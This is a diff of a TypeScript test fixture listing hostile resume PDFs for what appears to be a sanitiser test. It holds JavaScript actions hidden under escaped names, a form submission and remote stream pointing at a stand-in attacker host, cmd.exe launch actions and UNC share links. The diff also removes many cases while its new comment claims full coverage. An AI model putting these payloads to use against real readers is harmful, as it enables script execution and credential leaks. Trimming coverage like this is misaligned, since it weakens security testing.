@@ -6,9 +6,6 @@ export type HostilePdf = [carries: string, file: Buffer];
 const SHARE = String.raw`\\\\host\\share\\cv.pdf`;
 const WEB = '<< /S /URI /URI (http://evil.example/) >>';
 const PROGRAM = stream('/Type /EmbeddedFile', Buffer.from('MZ'));
-/** An entry of the catalog that leads to the first object behind the page's, or to the second. */
-const OPEN = '/OpenAction 6 0 R';
-const OPEN_NEXT = '/OpenAction 7 0 R';
 
 const catalog = (entries: string, ...objects: (string | Buffer)[]) => buildPdf({ catalog: entries, objects });
 const page = (entries: string, ...objects: (string | Buffer)[]) => buildPdf({ page: entries, objects });
@@ -19,37 +16,25 @@ const link = (action: string, ...objects: string[]) =>
 const address = (uri: string) => link(`/S /URI /URI (${uri})`);
 const annotation = (entries: string, ...objects: Buffer[]) =>
   page(`/Annots [<< /Rect [0 0 9 9] ${entries} >>]`, ...objects);
-const hidden = (object: string, entries?: string) =>
-  pdfWithObjectStream([object], entries === undefined ? {} : { entries }, { catalog: OPEN_NEXT });
+const hidden = (object: string) => pdfWithObjectStream([object], { catalog: '/OpenAction 7 0 R' });
 const withBase = (base: string, rest: string) =>
   buildPdf({
     catalog: `/URI << /Base (${base}) >>`,
     page: `/Annots [<< /Subtype /Link /Rect [0 0 99 99] /A << /S /URI /URI (${rest}) >> >>]`,
   });
 
-/** Resumes that do more than show pages, in plain sight or under names and in places that a reader may overlook. */
+/** Resumes that do more than show pages: one of each kind of action, and of each place that it may lie in. */
 export const hostilePdfs: HostilePdf[] = [
   ['a script', opening('/S /JavaScript /JS (app.alert\\(1\\))')],
   ['a script under escaped names', opening('/S /J#61v#61Script /J#53 (app.alert\\(1\\))')],
-  ['a script under names with odd bytes', opening('/S /JavaScript\xff/JS\x80(app.alert\\(1\\))')],
-  ['a script as a stream', opening('/S /JavaScript /JS 6 0 R', stream('', Buffer.from('app.alert(1)')))],
-  ['a script named by reference', opening('/S 6 0 R /JS 7 0 R', '/JavaScript', '(app.alert\\(1\\))')],
   ['a script in a name tree', catalog('/Names << /JavaScript << /Names [(a) 6 0 R] >> >>', SCRIPT)],
   ['a script in an object stream', hidden(SCRIPT)],
-  ['a script in a stream that says its filter short', hidden(SCRIPT, '/F /Fl')],
   ['a script when its page opens', page(`/AA << /O ${SCRIPT} >>`)],
-  ['a script after another action', opening(`/S /GoTo /D [3 0 R /Fit] /Next ${SCRIPT}`)],
-  ['a script in a rendition', opening('/S /Rendition /OP 0 /JS (app.alert\\(1\\))')],
   ['a script in a field', annotation(`/Subtype /Widget /FT /Tx /T (a) /AA << /Bl ${SCRIPT} >>`)],
   ['a form that is sent', opening('/S /SubmitForm /F << /FS /URL /F (http://evil.example/) >>')],
-  ['a form that is sent, in an object stream', hidden('<< /S /SubmitForm /F (http://evil.example/) >>')],
   ['a form in XML', catalog('/AcroForm << /Fields [] /XFA 6 0 R >>', stream('', Buffer.from('<xdp/>')))],
-  ['data that is imported', opening('/S /ImportData /F (a.fdf)')],
-  ['a start of a program', opening('/S /Launch /Win << /F (cmd.exe) >>')],
   ['a start of a program by a link', link('/S 6 0 R /F (cmd.exe)', '/Launch')],
-  ['a file on a share', opening(`/S /GoToR /F (${SHARE}) /D [0 /Fit]`)],
   ['a file on a share, in hex', link('/S /GoToR /F <5c5c686f73745c612e706466> /D [0 /Fit]')],
-  ['a file on a share, described', opening(`/S /GoToR /F << /F (a.pdf) /UF (${SHARE}) >> /D [0 /Fit]`)],
   ['an article on a share', link(`/S /Thread /F (${SHARE}) /D 0`)],
   ['a link to a share', address(SHARE)],
   ['a link to a share by a scheme', address('file://host/share/a.pdf')],
@@ -59,8 +44,7 @@ export const hostilePdfs: HostilePdf[] = [
   ['a link that is a page', address('data:text/html,<script>alert\\(1\\)</script>')],
   ['a link that its file makes a script', withBase('javascript:', 'alert\\(1\\)')],
   ['a link that its file leads to a share', withBase('file:', '//host/a.pdf')],
-  ['an address that opens by itself', catalog(OPEN, WEB)],
-  ['an address that opens by itself, in a list', catalog(OPEN_NEXT, '<< >>', `[${WEB}]`)],
+  ['an address that opens by itself', catalog('/OpenAction 6 0 R', WEB)],
   ['an address that opens with its page', page('/AA 6 0 R', '<< /O 7 0 R >>', WEB)],
   ['an address that opens when its page closes', page(`/AA << /C ${WEB} >>`)],
   [
@@ -68,10 +52,8 @@ export const hostilePdfs: HostilePdf[] = [
     catalog('/Names << /EmbeddedFiles << /Names [(a) << /EF << /F 6 0 R >> >>] >> >>', PROGRAM),
   ],
   ['a related file', catalog('/AF << /F (a.xml) /EF << /F 6 0 R >> /RF << /F [(a) 6 0 R] >> >>', PROGRAM)],
-  ['a target in an attached file', opening('/S /GoToE /T << /R /C /N (a.pdf) >> /D [0 /Fit]')],
   ['a stream in another file', catalog('', stream('/F (http://evil.example/a)', Buffer.alloc(0)))],
   ['a film', annotation('/Subtype /Movie /Movie << /F (a.avi) >>')],
-  ['a sound', opening('/S /Sound /Sound 6 0 R', stream('/R 8000', Buffer.alloc(9)))],
   ['a model', annotation('/Subtype /3D /3DD 6 0 R', stream('/Type /3D /Subtype /U3D', Buffer.from('U3D')))],
   ['a rich medium', annotation('/Subtype /RichMedia')],
 ];
